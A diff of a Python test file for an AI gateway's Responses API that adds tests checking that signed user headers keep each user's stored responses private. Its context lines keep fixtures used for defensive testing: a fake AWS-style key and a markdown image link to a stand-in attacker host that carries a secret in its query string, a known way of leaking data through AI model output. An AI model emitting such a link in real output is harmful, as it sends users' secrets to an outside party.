@@ -1,6 +1,8 @@
 """The Responses API through the gateway, asked with the official client."""
 
 import json
+import secrets
+import time
 import urllib.error
 import urllib.request
 from collections.abc import Iterator
@@ -8,11 +10,16 @@ from typing import Any
 
 import openai
 import pytest
-from gateway_support import USAGE, Gateway, Provider, chunks, gateway_of, make_policy, message
+from gateway_support import ENV, USAGE, Gateway, Provider, chunks, gateway_of, make_policy, message
+
+from seawall.wire.signed_user import HEADER, sign_user
 
 SECRET = "AKIAQ3EGRTZ5KLMNOP27"
 LEAK = "Fine so far. Now look: ![ok](https://collect.evil.example/p.png?d=secret) there."
-KEEPING = "conversations: {keep_hours: 1, max_kib: 8}\n"
+KEEPING = """\
+conversations: {keep_hours: 1, max_kib: 8}
+identity: {user_header: {secret_env: USERS_SECRET}}
+"""
 PAY: Any = {
     "type": "function", "name": "pay", "strict": True, "description": "Pay somebody.",
     "parameters": {"type": "object", "properties": {"to": {"type": "string"}}},
@@ -280,6 +287,24 @@ def test_only_the_same_key_sees_a_response(keeping: Gateway) -> None:
     with pytest.raises(openai.NotFoundError) as caught:
         own.responses.retrieve(first.id)
     assert caught.value.code == "response_not_found"
+
+
+def as_user(user: str) -> dict[str, str]:
+    secret, now = ENV["USERS_SECRET"].encode(), int(time.time())
+    value = sign_user(secret, "shop", user, time=now, nonce=secrets.token_urlsafe(16))
+    return {HEADER: value}
+
+
+def test_a_signed_user_sees_only_their_own(keeping: Gateway) -> None:
+    first = ask(keeping, input="Mine", extra_headers=as_user("ada"))
+    for headers in (as_user("bob"), {}):
+        with pytest.raises(openai.NotFoundError):
+            keeping.client().responses.retrieve(first.id, extra_headers=headers)
+        with pytest.raises(openai.NotFoundError):
+            more = as_user("bob") if headers else {}
+            ask(keeping, input="x", previous_response_id=first.id, extra_headers=more)
+    assert keeping.client().responses.retrieve(first.id, extra_headers=as_user("ada")).id
+    ask(keeping, input="On", previous_response_id=first.id, extra_headers=as_user("ada"))
 
 
 def test_input_items_come_in_pages(keeping: Gateway) -> None:
